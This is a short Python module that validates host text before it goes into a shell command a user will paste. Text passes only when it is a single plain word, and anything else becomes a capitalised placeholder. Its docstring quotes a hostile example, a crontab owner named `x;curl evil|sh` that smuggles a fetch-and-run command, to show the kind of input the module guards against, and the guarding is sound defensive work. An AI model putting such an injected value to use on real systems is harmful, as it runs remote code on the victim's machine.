"""Host text in a command to paste: only as a plain word, else a placeholder.

A remedy is read at 1 AM and pasted into a root shell. Host text is data (DESIGN,
Containment): a crontab owner named `x;curl evil|sh`, a unit file named `$(...)`, an
`init=` value or a kernel release from a hostile /boot would become a command. So host
text enters a command only when it is one plain word: letters, digits and `_ @ % + = : ,
. / -`, not starting with `-` (no option), no blank, quote, `$`, `;`, `|`, `&`, `*`,
backslash or control character, nothing a shell reads as more than that word. Anything
else stands as a placeholder in capitals (`USER`), and the evidence quotes the real text.
Whole host-written command lines (apt's `Commandline:`) are never put in a remedy at all.
"""

from __future__ import annotations

import re

_PLAIN = re.compile(r"[A-Za-z0-9_@%+=:,./][A-Za-z0-9_@%+=:,./-]*")


def word(text: str | None, placeholder: str) -> str:
    """`text` if it is one plain word (at most 200 characters), else `placeholder`."""
    if text and len(text) <= 200 and _PLAIN.fullmatch(text):
        return text
    return placeholder
